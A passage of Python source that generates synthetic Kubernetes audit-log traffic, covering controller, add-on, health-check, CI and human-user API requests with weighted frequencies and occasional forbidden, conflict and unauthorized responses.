                "system:kube-scheduler",
                "User",
                "system:kube-scheduler",
            )
        ),
    )
    binding_t = _tpl(
        {
            "kind": "Binding",
            "apiVersion": "v1",
            "metadata": {
                "name": "@@name@@",
                "namespace": "@@ns@@",
                "uid": "@@uid@@",
                "creationTimestamp": None,
            },
            "target": {"kind": "Node", "name": "@@node@@"},
        }
    )
    status_201 = '{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Success","code":201}'

    def sched_bind(t: int, m: int) -> None:
        ns, app, h = _APPS[int(rng.random() * len(_APPS))]
        name = _pod_name(g, app, h)
        uid = mk_uid()
        g.req(
            m,
            t,
            sched,
            "RequestResponse",
            "create",
            _uri(f"/api/v1/namespaces/{ns}/pods/{name}/binding"),
            _oref("pods", ns, name, sub="binding", uid=uid),
            _st(201),
            reqo=binding_t
            % {"name": name, "ns": ns, "uid": uid, "node": NODES[int(rng.random() * n_nodes)]},
            respo=status_201,
        )

    rs_status_t = _tpl(
        {
            "kind": "ReplicaSet",
            "apiVersion": "apps/v1",
            "metadata": {
                "name": "@@name@@",
                "namespace": "@@ns@@",
                "uid": "@@uid@@",
                "resourceVersion": "@@rv@@",
                "generation": 7,
                "creationTimestamp": g.created,
                "labels": {"app": "@@app@@"},
            },
            "spec": {"replicas": 3, "selector": {"matchLabels": {"app": "@@app@@"}}},
            "status": {
                "replicas": 3,
                "fullyLabeledReplicas": 3,
                "readyReplicas": 3,
                "availableReplicas": 3,
                "observedGeneration": 7,
            },
        }
    )
    rs_uids = {(ns, app): mk_uid() for ns, app, _ in _APPS}

    def rs_status(t: int, m: int) -> None:
        ns, app, h = _APPS[int(rng.random() * len(_APPS))]
        name = f"{app}-{h}"
        old = str(g.rv - 3 - int(rng.random() * 200))
        p = {"name": name, "ns": ns, "uid": rs_uids[ns, app], "rv": old, "app": app}
        uri = _uri(f"/apis/apps/v1/namespaces/{ns}/replicasets/{name}/status")
        oref = _oref("replicasets", ns, name, "apps", sub="status", uid=p["uid"], rv=old)
        if rng.random() < 0.1:  # stale cache: optimistic-concurrency conflict
            rs, obj = _conflict("replicasets", "apps", name)
            g.req(
                m,
                t,
                rs_ctl,
                "RequestResponse",
                "update",
                uri,
                oref,
                rs,
                reqo=rs_status_t % p,
                respo=obj,
            )
            return
        body = rs_status_t % p
        p["rv"] = g.next_rv()
        g.req(
            m, t, rs_ctl, "RequestResponse", "update", uri, oref, reqo=body, respo=rs_status_t % p
        )

    dep_status_t = _tpl(
        {
            "kind": "Deployment",
            "apiVersion": "apps/v1",
            "metadata": {
                "name": "@@app@@",
                "namespace": "@@ns@@",
                "uid": "@@uid@@",
                "resourceVersion": "@@rv@@",
                "generation": 7,
                "creationTimestamp": g.created,
                "annotations": {"deployment.kubernetes.io/revision": "7"},
            },
            "spec": {"replicas": 3, "selector": {"matchLabels": {"app": "@@app@@"}}},
            "status": {
                "observedGeneration": 7,
                "replicas": 3,
                "updatedReplicas": 3,
                "readyReplicas": 3,
                "availableReplicas": 3,
            },
        }
    )

    def dep_status(t: int, m: int) -> None:
        ns, app, _ = _APPS[int(rng.random() * len(_APPS))]
        old = str(g.rv - 3 - int(rng.random() * 200))
        p = {"app": app, "ns": ns, "uid": rs_uids[ns, app], "rv": old}
        body = dep_status_t % p
        p["rv"] = g.next_rv()
        g.req(
            m,
            t,
            dep_ctl,
            "RequestResponse",
            "update",
            _uri(f"/apis/apps/v1/namespaces/{ns}/deployments/{app}/status"),
            _oref("deployments", ns, app, "apps", sub="status", uid=p["uid"], rv=old),
            reqo=body,
            respo=dep_status_t % p,
        )

    def epslice_update(t: int, m: int) -> None:
        ns, app, _ = _APPS[int(rng.random() * len(_APPS))]
        name = f"{app}-{rng.getrandbits(20):05x}"
        rs = (
            _conflict("endpointslices", "discovery.k8s.io", name)[0]
            if rng.random() < 0.05
            else '{"metadata":{},"code":200}'
        )
        g.req(
            m,
            t,
            eps_ctl,
            "Metadata",
            "update",
            _uri(f"/apis/discovery.k8s.io/v1/namespaces/{ns}/endpointslices/{name}"),
            _oref("endpointslices", ns, name, "discovery.k8s.io", uid=mk_uid(), rv=g.next_rv()),
            rs,
        )

    ep_t = _tpl(
        {
            "kind": "Endpoints",
            "apiVersion": "v1",
            "metadata": {
                "name": "@@app@@",
                "namespace": "@@ns@@",
                "uid": "@@uid@@",
                "resourceVersion": "@@rv@@",
                "creationTimestamp": g.created,
                "labels": {"app": "@@app@@"},
            },
            "subsets": [
                {
                    "addresses": [
                        {
                            "ip": "@@ip@@",
                            "nodeName": "@@node@@",
                            "targetRef": {"kind": "Pod", "namespace": "@@ns@@", "name": "@@pod@@"},
                        }
                    ],
                    "ports": [{"name": "http", "port": 8080, "protocol": "TCP"}],
                }
            ],
        }
    )

    def endpoints_update(t: int, m: int) -> None:
        ns, app, h = _APPS[int(rng.random() * len(_APPS))]
        i = int(rng.random() * n_nodes)
        old = str(g.rv - 3 - int(rng.random() * 200))
        p = {
            "app": app,
            "ns": ns,
            "uid": rs_uids[ns, app],
            "rv": old,
            "ip": f"172.20.{i * 2}.{10 + int(rng.random() * 100)}",
            "node": NODES[i],
            "pod": _pod_name(g, app, h),
        }
        body = ep_t % p
        p["rv"] = g.next_rv()
        g.req(
            m,
            t,
            ep_ctl,
            "RequestResponse",
            "update",
            _uri(f"/api/v1/namespaces/{ns}/endpoints/{app}"),
            _oref("endpoints", ns, app, uid=p["uid"], rv=old),
            reqo=body,
            respo=ep_t % p,
        )

    def hpa_metrics(t: int, m: int) -> None:
        ns, app, _ = _APPS[int(rng.random() * 3)]
        g.req(
            m,
            t,
            hpa_ctl,
            "Metadata",
            "list",
            _uri(
                f"/apis/metrics.k8s.io/v1beta1/namespaces/{ns}/pods", f"labelSelector=app%3D{app}"
            ),
            _oref("pods", ns, group="metrics.k8s.io", version="v1beta1"),
        )

    def gc_watch(t: int, m: int) -> None:
        res = (
            ("apps", "replicasets"),
            ("batch", "jobs"),
            ("", "pods"),
            ("apps", "deployments"),
            ("policy", "poddisruptionbudgets"),
        )[int(rng.random() * 5)]
        q, secs = _watch_query(g)
        path = f"/apis/{res[0]}/v1/{res[1]}" if res[0] else f"/api/v1/{res[1]}"
        g.req(
            m,
            t,
            gc_ctl,
            "Request",
            "watch",
            _uri(path, q),
            _oref(res[1], group=res[0]),
            dur=secs * _US + 1500,
            started='{"metadata":{},"code":200}',
        )

    job_t = _tpl(
        {
            "kind": "Pod",
            "apiVersion": "v1",
            "metadata": {
                "generateName": "report-@@jid@@-",
                "namespace": "prod",
                "creationTimestamp": None,
                "labels": {
                    "batch.kubernetes.io/job-name": "report-@@jid@@",
                    "job-name": "report-@@jid@@",
                },
            },
            "spec": {
                "containers": [
                    {
                        "name": "report",
                        "image": f"{REGISTRY}/report:1.4.0",
                        "args": ["--since=24h"],
                        "resources": {"requests": {"cpu": "100m", "memory": "128Mi"}},
                    }
                ],
                "restartPolicy": "OnFailure",
            },
        }
    )

    job_ann = _allow(
        _sa_reason("system:controller:job-controller", "kube-system", "job-controller"),
        {_PSA_KEY: "privileged:latest"},
    )

    def job_pod(t: int, m: int) -> None:
        jid = str(29_000_000 + int(rng.random() * 99_999))
        name = f"report-{jid}-" + "".join(_SUFFIX_CHARS[int(rng.random() * 27)] for _ in range(5))
        body = job_t % {"jid": jid}
        meta = (
            f'"metadata":{{"name":"{name}","generateName":"report-{jid}-","namespace":"prod",'
            f'"uid":"{mk_uid()}","resourceVersion":"{g.next_rv()}",'
            f'"creationTimestamp":"{g.sec(t)}",'
        )
        resp = body.replace(
            f'"metadata":{{"generateName":"report-{jid}-","namespace":"prod",'
            '"creationTimestamp":null,',
            meta,
        )
        resp = resp[:-1] + ',"status":{"phase":"Pending","qosClass":"Burstable"}}'
        g.req(
            m,
            t,
            job_ctl,
            "RequestResponse",
            "create",
            _uri("/api/v1/namespaces/prod/pods"),
            _oref("pods", "prod"),
            _st(201),
            job_ann,
            reqo=body,
            respo=resp,
        )

    ops += [
        (0.3, rs_create_pod),
        (0.3, sched_bind),
        (0.8, rs_status),
        (0.3, dep_status),
        (1.2, epslice_update),
        (0.5, endpoints_update),
        (2.0, hpa_metrics),
        (0.8, gc_watch),
        (0.03, job_pod),
    ]

    # add-ons in kube-system / monitoring / cert-manager (pod-bound service-account tokens)
    def addon(ns: str, sa: str, pod: str, node_i: int, ua: str, binding: str) -> _Actor:
        return _Actor(
            sa,
            _sa(ns, sa, mk_uid(), pod, NODES[node_i]),
            _j(ua),
            _ips([f"172.20.{node_i * 2}.{30 + node_i * 7 % 50}"]),
            _allow(_sa_reason(binding, ns, sa)),
        )

    coredns = addon(
        "kube-system",
        "coredns",
        "coredns-6d5b6f6f5b-8xk2p",
        0,
        "coredns/v0.0.0 (linux/amd64) kubernetes/$Format",
        "system:coredns",
    )
    ingress = addon(
        "kube-system",
        "nginx-ingress-controller",
        "nginx-ingress-controller-6c9b9d5d8f-qv7lm",
        1,
        "nginx-ingress-controller/v1.10.1-aliyun.1 (linux/amd64) ingress-nginx/3c2b5f1",
        "nginx-ingress-controller",
    )
    metrics = addon(
        "kube-system",
        "metrics-server",
        "metrics-server-7f8d5b9c64-t4wkz",
        2,
        "metrics-server/v0.7.1 (linux/amd64) kubernetes/$Format",
        "system:metrics-server",
    )
    prom = addon(
        "monitoring", "prometheus-k8s", "prometheus-k8s-0", 3, "Prometheus/2.51.2", "prometheus-k8s"
    )
    promop = addon(
        "monitoring",
        "prometheus-operator",
        "prometheus-operator-5b8f6c9d7-h2xnm",
        4,
        "PrometheusOperator/0.73.2",
        "prometheus-operator",
    )
    ksm = addon(
        "monitoring",
        "kube-state-metrics",
        "kube-state-metrics-66f9d8d5c7-r9pwl",
        5,
        "v2.12.0",
        "kube-state-metrics",
    )
    certm = addon(
        "cert-manager",
        "cert-manager",
        "cert-manager-7d8b6c5f9-lk2pd",
        1,
        "cert-manager-certificates-issuing/v1.14.5 (linux/amd64) cert-manager/0a1b7c3",
        "cert-manager-controller-certificates",
    )
    calico = [
        addon(
            "kube-system",
            "calico-node",
            f"calico-node-{s}",
            i,
            "calico-node/v0.0.0 (linux/amd64) kubernetes/$Format",
            "calico-node",
        )
        for i, s in enumerate(("4kq8n", "9vtzp", "b2hxw", "f7mrd", "k5cjs", "x8wql"))
    ]
    kproxy = [
        _Actor(
            "kube-proxy",
            _j({"username": "system:kube-proxy", "groups": ["system:authenticated"]}),
            _ua("kube-proxy"),
            _ips([ip]),
            _allow(
                _rbac(
                    "ClusterRoleBinding",
                    "system:node-proxier",
                    "system:node-proxier",
                    "User",
                    "system:kube-proxy",
                )
            ),
        )
        for ip in NODE_IPS
    ]
    started200 = '{"metadata":{},"code":200}'

    def watch_op(actor: _Actor | list[_Actor], targets: list[tuple[str, str, str, str, str]]) -> Op:
        """targets: (level, group, version, resource, namespace)."""

        def op(t: int, m: int) -> None:
            a = actor if isinstance(actor, _Actor) else actor[int(rng.random() * len(actor))]
            lvl, grp, ver, res, ns = targets[int(rng.random() * len(targets))]
            base = f"/apis/{grp}/{ver}" if grp else "/api/v1"
            path = f"{base}/namespaces/{ns}/{res}" if ns else f"{base}/{res}"
            q, secs = _watch_query(g)
            g.req(
                m,
                t,
                a,
                lvl,
                "watch",
                _uri(path, q),
                _oref(res, ns, group=grp, version=ver),
                dur=secs * _US + int(rng.random() * 4000),
                started=started200,
            )

        return op

    ops += [
        (
            1.5,
            watch_op(
                coredns,
                [
                    ("Metadata", "discovery.k8s.io", "v1", "endpointslices", ""),
                    ("Request", "", "v1", "services", ""),
                    ("Request", "", "v1", "namespaces", ""),
                ],
            ),
        ),
        (
            1.0,
            watch_op(
                kproxy,
                [
                    ("Metadata", "discovery.k8s.io", "v1", "endpointslices", ""),
                    ("Request", "", "v1", "nodes", ""),
                ],
            ),
        ),
        (
            1.0,
            watch_op(
                ingress,
                [
                    ("Request", "networking.k8s.io", "v1", "ingresses", ""),
                    ("Request", "networking.k8s.io", "v1", "ingressclasses", ""),
                    ("Metadata", "discovery.k8s.io", "v1", "endpointslices", ""),
                    ("Metadata", "", "v1", "configmaps", "kube-system"),
                ],
            ),
        ),
        (
            0.8,
            watch_op(
                prom,
                [
                    ("Request", "", "v1", "pods", ""),
                    ("Request", "", "v1", "services", ""),
                    ("Request", "", "v1", "endpoints", ""),
                ],
            ),
        ),
        (
            0.6,
            watch_op(
                promop,
                [
                    ("Metadata", "monitoring.coreos.com", "v1", "servicemonitors", ""),
                    ("Metadata", "monitoring.coreos.com", "v1", "prometheusrules", ""),
                    ("Metadata", "monitoring.coreos.com", "v1", "podmonitors", ""),
                    ("Request", "apps", "v1", "statefulsets", "monitoring"),
                ],
            ),
        ),
        (
            0.8,
            watch_op(
                ksm,
                [
                    ("Request", "", "v1", "pods", ""),
                    ("Request", "", "v1", "nodes", ""),
                    ("Request", "apps", "v1", "deployments", ""),
                    ("Request", "batch", "v1", "cronjobs", ""),
                    ("Request", "autoscaling", "v2", "horizontalpodautoscalers", ""),
                ],
            ),
        ),
        (
            0.5,
            watch_op(
                certm,
                [
                    ("Metadata", "cert-manager.io", "v1", "certificates", ""),
                    ("Metadata", "cert-manager.io", "v1", "certificaterequests", ""),
                    ("Metadata", "cert-manager.io", "v1", "clusterissuers", ""),
                ],
            ),
        ),
        (
            1.2,
            watch_op(
                calico,
                [
                    ("Metadata", "crd.projectcalico.org", "v1", "ippools", ""),
                    ("Metadata", "crd.projectcalico.org", "v1", "felixconfigurations", ""),
                    ("Metadata", "crd.projectcalico.org", "v1", "blockaffinities", ""),
                    ("Request", "networking.k8s.io", "v1", "networkpolicies", ""),
                ],
            ),
        ),
    ]

    lease_uids = {k: mk_uid() for k in ("ingress", "cert-manager")}

    def ingress_lease(t: int, m: int) -> None:
        name = "ingress-controller-leader-nginx"
        g.req(
            m,
            t,
            ingress,
            "Metadata",
            "update",
            _uri(f"/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/{name}"),
            _oref(
                "leases",
                "kube-system",
                name,
                "coordination.k8s.io",
                uid=lease_uids["ingress"],
                rv=g.next_rv(),
            ),
        )

    def certm_lease(t: int, m: int) -> None:
        name = "cert-manager-controller"
        g.req(
            m,
            t,
            certm,
            "Metadata",
            "update",
            _uri(
                f"/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/{name}", "timeout=5s"
            ),
            _oref(
                "leases",
                "kube-system",
                name,
                "coordination.k8s.io",
                uid=lease_uids["cert-manager"],
                rv=g.next_rv(),
            ),
        )

    sar_req_t = _tpl(
        {
            "kind": "SubjectAccessReview",
            "apiVersion": "authorization.k8s.io/v1",
            "metadata": {"creationTimestamp": None},
            "spec": {
                "resourceAttributes": {
                    "verb": "get",
                    "group": "metrics.k8s.io",
                    "resource": "@@res@@",
                },
                "user": "system:serviceaccount:kube-system:horizontal-pod-autoscaler",
                "groups": [
                    "system:serviceaccounts",
                    "system:serviceaccounts:kube-system",
                    "system:authenticated",
                ],
                "uid": "@@uid@@",
            },
            "status": {"allowed": False},
        }
    )
    sar_resp_t = _tpl(
        {
            "kind": "SubjectAccessReview",
            "apiVersion": "authorization.k8s.io/v1",
            "metadata": {"creationTimestamp": None},
            "spec": {
                "resourceAttributes": {
                    "verb": "get",
                    "group": "metrics.k8s.io",
                    "resource": "@@res@@",
                },
                "user": "system:serviceaccount:kube-system:horizontal-pod-autoscaler",
                "groups": [
                    "system:serviceaccounts",
                    "system:serviceaccounts:kube-system",
                    "system:authenticated",
                ],
                "uid": "@@uid@@",
            },
            "status": {
                "allowed": True,
                "reason": "RBAC: allowed by ClusterRoleBinding "
                '"system:controller:horizontal-pod-autoscaler" of ClusterRole '
                '"system:controller:horizontal-pod-autoscaler" to ServiceAccount '
                '"horizontal-pod-autoscaler/kube-system"',
            },
        }
    )
    hpa_uid = mk_uid()

    def metrics_sar(t: int, m: int) -> None:
        p = {"res": "pods" if rng.random() < 0.8 else "nodes", "uid": hpa_uid}
        g.req(
            m,
            t,
            metrics,
            "RequestResponse",
            "create",
            _uri("/apis/authorization.k8s.io/v1/subjectaccessreviews", "timeout=10s"),
            _oref("subjectaccessreviews", group="authorization.k8s.io"),
            _st(201),
            reqo=sar_req_t % p,
            respo=sar_resp_t % p,
        )

    def metrics_tokenreview(t: int, m: int) -> None:
        g.req(
            m,
            t,
            metrics,
            "Metadata",
            "create",
            _uri("/apis/authentication.k8s.io/v1/tokenreviews", "timeout=10s"),
            _oref("tokenreviews", group="authentication.k8s.io"),
            _st(201),
        )

    def prom_metrics(t: int, m: int) -> None:
        g.req(
            m,
            t,
            prom,
            "Metadata",
            "get",
            _uri("/metrics"),
            "",
            ann_j=_allow(
                _rbac(
                    "ClusterRoleBinding",
                    "prometheus-k8s",
                    "prometheus-k8s",
                    "ServiceAccount",
                    "prometheus-k8s/monitoring",
                )
            ),
            dur=20_000 + int(rng.random() * 60_000),
        )

    ksm_forbid = _forbidden(
        "system:serviceaccount:monitoring:kube-state-metrics",
        "list",
        "verticalpodautoscalers",
        "autoscaling.k8s.io",
        "",
    )

    def ksm_denied(t: int, m: int) -> None:  # missing RBAC rule; the reflector retries forever
        g.req(
            m,
            t,
            ksm,
            "Metadata",
            "list",
            _uri(
                "/apis/autoscaling.k8s.io/v1/verticalpodautoscalers", "limit=500&resourceVersion=0"
            ),
            _oref("verticalpodautoscalers", group="autoscaling.k8s.io"),
            ksm_forbid,
            _FORBID,
        )

    cert_names = ("web-tls", "api-tls", "grafana-tls")

    def certm_crd(t: int, m: int) -> None:
        name = cert_names[int(rng.random() * 3)]
        ns = "monitoring" if name == "grafana-tls" else "prod"
        if rng.random() < 0.7:
            g.req(
                m,
                t,
                certm,
                "Metadata",
                "get",
                _uri(f"/apis/cert-manager.io/v1/namespaces/{ns}/certificates/{name}"),
                _oref("certificates", ns, name, "cert-manager.io"),
            )
        else:
            g.req(
                m,
                t,
                certm,
                "Metadata",
                "update",
                _uri(f"/apis/cert-manager.io/v1/namespaces/{ns}/certificates/{name}/status"),
                _oref(
                    "certificates",
                    ns,
                    name,
                    "cert-manager.io",
                    sub="status",
                    uid=mk_uid(),
                    rv=g.next_rv(),
                ),
            )

    def calico_get(t: int, m: int) -> None:
        a = calico[int(rng.random() * len(calico))]
        if rng.random() < 0.5:
            g.req(
                m,
                t,
                a,
                "Metadata",
                "get",
                _uri("/apis/crd.projectcalico.org/v1/felixconfigurations/default"),
                _oref("felixconfigurations", "", "default", "crd.projectcalico.org"),
            )
        else:
            g.req(
                m,
                t,
                a,
                "Metadata",
                "list",
                _uri("/apis/crd.projectcalico.org/v1/ippools"),
                _oref("ippools", group="crd.projectcalico.org"),
            )

    anon = _Actor(
        "system:anonymous",
        _j({"username": "system:anonymous", "groups": ["system:unauthenticated"]}),
        _j("Go-http-client/1.1"),
        _ips(["100.104.8.61"], ["100.104.8.62"], ["100.104.113.9"]),
        _allow(
            _rbac(
                "ClusterRoleBinding",
                "system:public-info-viewer",
                "system:public-info-viewer",
                "Group",
                "system:unauthenticated",
            )
        ),
    )

    def health(t: int, m: int) -> None:  # SLB health checks from 100.64/10
        g.req(
            m, t, anon, "Metadata", "get", _uri("/readyz" if rng.random() < 0.7 else "/livez"), ""
        )

    ops += [
        (5.0, ingress_lease),
        (5.0, certm_lease),
        (1.5, metrics_sar),
        (1.0, metrics_tokenreview),
        (2.0, prom_metrics),
        (0.05, ksm_denied),
        (0.4, certm_crd),
        (1.0, calico_get),
        (3.0, health),
    ]

    deployer = _Actor(
        "deployer",
        _sa("prod", "deployer", mk_uid()),
        _j("Helm/3.14.4"),
        _ips([CI_RUNNER_IP]),
        _allow(_rbac("RoleBinding", "deployer/prod", "edit", "ServiceAccount", "deployer/prod")),
    )

    def ci_deploy(t: int, m: int) -> None:
        app = ("web", "api", "worker")[int(rng.random() * 3)]
        g.req(
            m,
            t,
            deployer,
            "Request",
            "get",
            _uri(f"/apis/apps/v1/namespaces/prod/deployments/{app}"),
            _oref("deployments", "prod", app, "apps"),
        )

    ops.append((0.1, ci_deploy))
    return ops


def _unauth_ops(g: _Gen) -> list[tuple[float, Op]]:
    ci_ips, ci_ua = _j([CI_RUNNER_IP]), _j("Helm/3.11.1")

    def expired_ci_token(t: int, m: int) -> None:  # a decommissioned CI job keeps retrying
        g.unauthorized(
            m,
            t,
            "Request",
            "get",
            _uri("/apis/apps/v1/namespaces/staging/deployments/web"),
            _oref("deployments", "staging", "web", "apps"),
            ci_ips,
            ci_ua,
        )

    def stale_kubeconfig(t: int, m: int) -> None:
        g.unauthorized(
            m, t, "Metadata", "get", _uri("/api", "timeout=32s"), "", _j(BASTION), _j(KUBECTL_LINUX)
        )

    return [(3.0, expired_ci_token), (1.0, stale_kubeconfig)]


def _human_actors() -> list[tuple[float, _Actor]]:
    auth = ["system:authenticated"]
    out: list[tuple[float, _Actor]] = []
    table = [
        (
            8.0,
            "dev",
            DEV_ID,
            auth,
            DEV_ID,
            "cs:dev",
            _ips([OFFICE_IP], [DEV_HOME_V6]),
            [KUBECTL_DARWIN],
        ),
        (6.0, "ops", OPS_ID, auth, OPS_ID, "cluster-admin", _ips(BASTION), [KUBECTL_LINUX, K9S]),
        (
            1.5,
            "intern",
            INTERN_ID,
            auth,
            INTERN_ID,
            "cs:restricted",
            _ips(INTERN_IPS),
            [KUBECTL_WINDOWS],
        ),
        (
            1.0,
            "contractor",
            CONTRACTOR_ID,
            auth,
            CONTRACTOR_ID,
            "cluster-admin",
            _ips([OFFICE_IP]),
            [KUBECTL_LINUX],
        ),
        (
            3.0,
            "admin-ops",
            ADMIN,
            ADMIN_GROUPS,
            OPS_ID,
            "cluster-admin",
            _ips(BASTION),
            [KUBECTL_LINUX],
        ),
        (
            2.0,
            "admin-lead",
            ADMIN,
            ADMIN_GROUPS,
            LEAD_ID,
            "cluster-admin",
            _ips([CLOUDSHELL_IP]),
            [KUBECTL_LINUX],
        ),
    ]
    for w, key, user, groups, person, role, ips, uas in table:
        actors = _human(key, user, groups, person, role, ips, uas)
        out += [(w / len(actors), a) for a in actors]
    return out


def _human_ops(g: _Gen) -> list[tuple[float, HumanOp]]:
    rng = g.rng
    namespaces = ("prod", "prod", "staging", "monitoring", "default")
    started200 = '{"metadata":{},"code":200}'

    def ns_of(a: _Actor) -> str:
        return "staging" if a.name == "intern" else namespaces[int(rng.random() * 5)]

    def discovery(t: int, m: int, a: _Actor) -> None:
        path = ("/api", "/apis", "/openapi/v2")[int(rng.random() * 3)]
        g.req(m, t, a, "Metadata", "get", _uri(path, "timeout=32s"), "")

    def list_res(t: int, m: int, a: _Actor) -> None:
        ns = ns_of(a)
        grp, res = (
            ("", "pods"),
            ("", "pods"),
            ("apps", "deployments"),
            ("", "services"),
            ("", "configmaps"),
            ("batch", "jobs"),
        )[int(rng.random() * 6)]
        base = f"/apis/{grp}/v1" if grp else "/api/v1"
        if a.name == "dev" and rng.random() < 0.02:  # cs:dev has no rights in kube-system
            g.req(
                m,
                t,
                a,
                "Request",
                "list",
                _uri("/api/v1/namespaces/kube-system/pods", "limit=500"),
                _oref("pods", "kube-system"),
                _forbidden(DEV_ID, "list", "pods", "", "kube-system"),
                _FORBID,
            )
            return
        lvl = "Metadata" if res == "configmaps" else "Request"
        g.req(
            m,
            t,
            a,
            lvl,
            "list",
            _uri(f"{base}/namespaces/{ns}/{res}", "limit=500"),
            _oref(res, ns, group=grp),
            dur=3000 + int(rng.random() * 40_000),
        )

    def get_res(t: int, m: int, a: _Actor) -> None:
        ns = ns_of(a)
        a_ns, app, h = _APPS[int(rng.random() * len(_APPS))]
        kind = int(rng.random() * 3)
        if kind == 0:
            grp, res, name = "", "pods", _pod_name(g, app, h)
        elif kind == 1:
            grp, res, name = "apps", "deployments", app
        else:
            grp, res, name = "", "configmaps", f"{app}-config"
        base = f"/apis/{grp}/v1" if grp else "/api/v1"
        lvl = "Metadata" if res == "configmaps" else "Request"
        rs = _not_found(res, grp, name) if rng.random() < 0.06 else started200
        g.req(
            m,
            t,
            a,
            lvl,
            "get",
            _uri(f"{base}/namespaces/{ns}/{res}/{name}"),
            _oref(res, ns, name, grp),
            rs,
        )

    def logs(t: int, m: int, a: _Actor) -> None:
        ns, app, h = _APPS[int(rng.random() * len(_APPS))]
        name = _pod_name(g, app, h)
        follow = rng.random() < 0.3
        q = (
            f"container={app}&follow=true&tailLines=200"
            if follow
            else f"container={app}&tailLines=500"
        )
        dur = (
            (30 + int(rng.random() * 600)) * _US if follow else 20_000 + int(rng.random() * 300_000)
        )
        g.req(
            m,
            t,
            a,
            "Request",
            "get",
            _uri(f"/api/v1/namespaces/{ns}/pods/{name}/log", q),
            _oref("pods", ns, name, sub="log"),
            dur=dur,
            started=started200,
        )

    def watch_pods(t: int, m: int, a: _Actor) -> None:
        ns = ns_of(a)
        g.req(
            m,
            t,
            a,
            "Request",
            "watch",
            _uri(f"/api/v1/namespaces/{ns}/pods", f"resourceVersion={g.next_rv()}&watch=true"),
            _oref("pods", ns),
            dur=(20 + int(rng.random() * 900)) * _US,
            started=started200,
        )

    restart_t = _tpl(
        {
            "spec": {
                "template": {
                    "metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "@@at@@"}}
                }
            }
        }
    )
    dep_t = _tpl(
        {
            "kind": "Deployment",
            "apiVersion": "apps/v1",
            "metadata": {
                "name": "@@app@@",
                "namespace": "@@ns@@",
                "uid": "@@uid@@",
                "resourceVersion": "@@rv@@",
                "generation": 8,
                "creationTimestamp": g.created,
                "annotations": {"deployment.kubernetes.io/revision": "8"},
            },
            "spec": {
                "replicas": 3,
                "selector": {"matchLabels": {"app": "@@app@@"}},
                "template": {
                    "metadata": {
                        "labels": {"app": "@@app@@"},
                        "annotations": {"kubectl.kubernetes.io/restartedAt": "@@at@@"},
                    },
                    "spec": {
                        "containers": [
                            {
                                "name": "@@app@@",
                                "image": f"{REGISTRY}/@@app@@:2.14.3",
                            }
                        ]
                    },
                },
                "strategy": {
                    "type": "RollingUpdate",
                    "rollingUpdate": {"maxUnavailable": "25%", "maxSurge": "25%"},
                },
            },
            "status": {
                "observedGeneration": 7,
                "replicas": 3,
                "updatedReplicas": 3,
                "readyReplicas": 3,
                "availableReplicas": 3,
            },
        }
    )
    scale_t = _tpl(
        {
            "kind": "Scale",
            "apiVersion": "autoscaling/v1",
            "metadata": {
                "name": "@@app@@",
                "namespace": "@@ns@@",
                "uid": "@@uid@@",
                "resourceVersion": "@@rv@@",
                "creationTimestamp": g.created,
            },
            "spec": {"replicas": "@@n@@"},
            "status": {},
        }
    )
    uids = {(ns, app): g.aid() for ns, app, _ in _APPS}

    def rollout(t: int, m: int, a: _Actor) -> None:
        if a.name == "intern":
            return list_res(t, m, a)
        ns, app, _ = _APPS[int(rng.random() * 5)]
        p = {
            "app": app,
            "ns": ns,
            "uid": uids[ns, app],
            "rv": g.next_rv(),
            "at": g.fmt(t)[:19] + "+08:00",
            "n": "",
        }
        if rng.random() < 0.6:
            g.req(
                m,
                t,
                a,
                "RequestResponse",
                "patch",
                _uri(
                    f"/apis/apps/v1/namespaces/{ns}/deployments/{app}",
                    "fieldManager=kubectl-rollout",
                ),
                _oref("deployments", ns, app, "apps"),
                reqo=restart_t % p,
                respo=dep_t % p,
            )
            return
        p["n"] = str(2 + int(rng.random() * 5))
        old = p["rv"] = str(g.rv - 3 - int(rng.random() * 500))
        body = (scale_t % p).replace(f'"replicas":"{p["n"]}"', f'"replicas":{p["n"]}')
        uri = _uri(f"/apis/apps/v1/namespaces/{ns}/deployments/{app}/scale")
        oref = _oref("deployments", ns, app, "apps", sub="scale", uid=p["uid"], rv=old)
        if rng.random() < 0.15:
            rs, obj = _conflict("deployments", "apps", app)
            g.req(m, t, a, "RequestResponse", "update", uri, oref, rs, reqo=body, respo=obj)
        else:
            p["rv"] = g.next_rv()
            resp = (scale_t % p).replace(f'"replicas":"{p["n"]}"', f'"replicas":{p["n"]}')
            g.req(m, t, a, "RequestResponse", "update", uri, oref, reqo=body, respo=resp)

    crds = (
        ("monitoring.coreos.com", "servicemonitors", "monitoring"),
        ("monitoring.coreos.com", "prometheusrules", "monitoring"),
        ("cert-manager.io", "certificates", "prod"),
        ("crd.projectcalico.org", "ippools", ""),
        ("crd.projectcalico.org", "felixconfigurations", ""),
    )
    crd_names = {
        "servicemonitors": "web",
        "prometheusrules": "web-slo",
        "certificates": "web-tls",
        "ippools": "default-ipv4-ippool",
        "felixconfigurations": "default",
    }

    def crd_ops(t: int, m: int, a: _Actor) -> None:
        grp, res, ns = crds[int(rng.random() * len(crds))]
        base = f"/apis/{grp}/v1" + (f"/namespaces/{ns}" if ns else "")
        r = rng.random()
        name = crd_names[res]
        if r < 0.45 or a.name == "intern":
            g.req(
                m,
                t,
                a,
                "Metadata",
                "list",
                _uri(f"{base}/{res}", "limit=500"),
                _oref(res, ns, group=grp),
            )
        elif r < 0.75:
            g.req(
                m, t, a, "Metadata", "get", _uri(f"{base}/{res}/{name}"), _oref(res, ns, name, grp)
            )
        elif r < 0.92 and res in ("prometheusrules", "servicemonitors", "certificates"):
            rs = _conflict(res, grp, name)[0] if rng.random() < 0.1 else started200
            g.req(
                m,
                t,
                a,
                "Metadata",
                "patch",
                _uri(f"{base}/{res}/{name}", "fieldManager=kubectl-client-side-apply"),
                _oref(res, ns, name, grp),
                rs,
            )
        elif res == "certificates":
            new = f"{('shop', 'admin', 'docs')[int(rng.random() * 3)]}-tls"
            rs = (
                _st(
                    409,
                    "AlreadyExists",
                    f'certificates.cert-manager.io "{new}" already exists',
                    _details(new, "certificates", "cert-manager.io"),
                )
                if rng.random() < 0.3
                else _st(201)
            )
            g.req(
                m,
                t,
                a,
                "Metadata",
                "create",
                _uri(f"{base}/{res}", "fieldManager=kubectl-client-side-apply"),
                _oref(res, ns, new, grp),
                rs,
            )
        else:
            g.req(
